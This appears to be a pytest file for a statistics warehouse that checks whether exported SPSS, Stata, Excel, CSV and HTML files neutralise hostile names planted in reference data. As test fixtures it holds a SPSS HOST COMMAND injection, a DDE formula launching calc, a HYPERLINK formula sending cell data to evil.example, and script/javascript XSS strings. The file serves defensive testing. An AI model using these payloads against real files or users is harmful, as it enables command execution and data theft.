"""Text that leaves the warehouse is safe for its reader: hostile names planted in the reference data (past the
import's checks, as an older warehouse or another source could hold them) run through a release and its
publication, and every file is read by the program it is for: PSPP for the SPSS syntax, openpyxl for the
workbook, a CSV reader, the HTML as text. Nothing is executed and no formula is live."""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook

from tests.conftest import national_inbox, run_vt
from vt_warehouse.escape import markdown_text, one_line, spreadsheet_cell, spss_literal, stata_text


def test_each_writer_escapes_for_its_reader():
    assert one_line("a\nb\r\tc\x00d\u2028e") == "a b  c d e"
    assert [spreadsheet_cell(t) for t in ("=1+1", "+31", "-2", "@SUM(A1)", "\tx", "Arnhem", "'s-Hertogenbosch")] == [
        "'=1+1",
        "'+31",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
        "Arnhem",
        "'s-Hertogenbosch",
    ]
    assert spss_literal("Arnhem'\nHOST COMMAND=['touch x'].", 250) == "'Arnhem'' HOST COMMAND=[''touch x''].'"
    assert spss_literal("é" * 200, 120).endswith("...'") and len(spss_literal("é" * 200, 120).encode()) <= 122
    assert stata_text('a "b" `c\' $d\ne', 80) == "a 'b' 'c' Sd e"
    assert markdown_text("a|b [x](javascript:alert(1)) <b> *c*") == "a\\|b \\[x\\](javascript:alert(1)) \\<b\\> \\*c\\*"


def test_hostile_reference_names_reach_no_reader_as_code(tmp_path):
    pwned = tmp_path / "pwned"
    hostile = {
        "gemeente 0202": f"Arnhem\nHOST COMMAND=['touch {pwned}'].\n",
        "gemeente 0200": "=cmd|' /C calc'!A0",
        "regio VT05": '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
        "regio VT14": "<script>alert(1)</script>|[x](javascript:alert(1))",
    }
    inbox = national_inbox(tmp_path / "inbox")
    home = tmp_path / "wh"
    run_vt("load", "--received-at", "2020-07-25", str(inbox), home=home)
    with duckdb.connect(str(home / "vt.duckdb")) as con:  # past the import's checks
        for what, name in hostile.items():
            kind, code = what.split()
            table, column, key = (
                ("gemeente_vt", "gemeentenaam", "gemeentecode")
                if kind == "gemeente"
                else ("vt_regio", "vt_naam", "vt_code")
            )
            con.execute(f"update referentie.{table} set {column} = ? where {key} = ? and jaar = 2020", [name, code])
    run_vt("release", "2020V1", home=home)
    out = tmp_path / "out"
    run_vt("publish", "--release", "2020V1", "--out", str(out), "--regio", "VT05", home=home)
    release = home / "releases" / "2020V1"

    # SPSS: every syntax file runs in PSPP, and the planted command never does
    pspp = shutil.which("pspp")
    assert pspp, "GNU PSPP is needed (make test installs Debian's pspp)"
    for sps in sorted(release.glob("*.sps")):
        syntax = tmp_path / sps.name
        syntax.write_text(f"CD '{release}'.\n" + sps.read_text(encoding="utf-8"), encoding="utf-8")
        proc = subprocess.run(
            [pspp, "-O", "format=txt", "-o", str(tmp_path / "listing.txt"), str(syntax)],
            capture_output=True,
            text=True,
            timeout=300,
            cwd=tmp_path,
            check=False,
        )
        assert proc.returncode == 0, (sps.name, proc.stdout, proc.stderr)
    assert not pwned.exists()
    assert "'Arnhem HOST COMMAND=[''touch" in (release / "VT_casus_2020V1.sps").read_text(encoding="utf-8")

    # the workbook: the names are text, no cell is a formula
    workbook = load_workbook(out / "tabellen_2020V1.xlsx")
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert hostile["regio VT05"] in [c.value for c in cells]

    # every CSV of the release and the publication: no cell a spreadsheet would run
    for path in sorted([*release.glob("*.csv"), *out.glob("*.csv")]):
        with open(path, newline="", encoding="utf-8") as fh:
            bad = [cell for row in csv.reader(fh) for cell in row if cell.startswith(("=", "+", "-", "@"))]
        assert bad == [], path
    codes = (release / "codelijsten_2020V1.csv").read_text(encoding="utf-8")
    assert "GEMEENTE,0200,'=cmd|' /C calc'!A0\n" in codes

    # the HTML: escaped where it is shown, no script, no javascript link
    for page in (out / "publicatie_2020V1.html", release / "codebook_2020V1.html"):
        text = page.read_text(encoding="utf-8")
        assert "<script>" not in text and 'href="javascript' not in text, page.name
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in (out / "publicatie_2020V1.html").read_text(encoding="utf-8")
    # Stata: one line per command, whatever the labels hold
    for do in release.glob("*.do"):
        assert all(line.count('"') % 2 == 0 for line in do.read_text(encoding="utf-8").splitlines()), do.name


@pytest.fixture(autouse=True)
def _no_stray(tmp_path):
    yield
    assert not Path("pwned").exists()
